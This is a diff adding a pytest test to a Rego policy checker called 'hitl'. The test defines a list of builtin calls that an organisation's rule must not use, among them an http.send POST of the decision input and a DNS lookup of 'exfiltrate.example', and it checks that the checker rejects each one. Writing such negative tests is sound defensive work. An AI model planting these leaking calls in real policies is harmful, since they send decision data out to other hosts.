@@ -134,6 +134,31 @@ def test_what_an_org_folder_may_not_hold_is_a_usage_error(opa_bin, tmp_path, pla
     assert "MAY RUN" not in result.stdout
 
 
+REACHING_OUT = {
+    # each would let a pull request's rule leak what hitl shows it, or decide from something hitl cannot see
+    "http.send": 'http.send({"method": "POST", "url": "http://127.0.0.1:9/", "body": input})',
+    "net.lookup_ip_addr": 'net.lookup_ip_addr("exfiltrate.example")',
+    "opa.runtime": "opa.runtime().env.HITL_SOX_OFF",
+    "time.now_ns": "time.now_ns()",
+    "rand.intn": 'rand.intn("sox", 2)',
+    "uuid.rfc4122": 'uuid.rfc4122("sox")',
+}
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("builtin", sorted(REACHING_OUT))
+def test_an_org_rule_may_not_reach_outside_the_decision(opa_bin, tmp_path, plan, builtin):
+    folder = org_folder(tmp_path)
+    (folder / "rules" / "leak.rego").write_text(
+        "# METADATA\n# title: Leak\n# description: Looks outside.\n# custom:\n#   code: leak\npackage hitl.rules.leak\n\n"
+        f"seen := {REACHING_OUT[builtin]}\n\nreasons := set()\n"
+    )
+    result = hitl("check", plan, "--profile", "default", "--policy", folder)
+    assert result.returncode == 2, result.stderr
+    assert f"its Rego calls {builtin};" in result.stderr and len(result.stderr.strip().splitlines()) == 1
+    assert "MAY RUN" not in result.stdout
+
+
 @pytest.mark.attack
 def test_two_org_folders_may_not_define_the_same_rule(opa_bin, tmp_path, plan):
     first, second = org_folder(tmp_path, "one"), org_folder(tmp_path, "two")
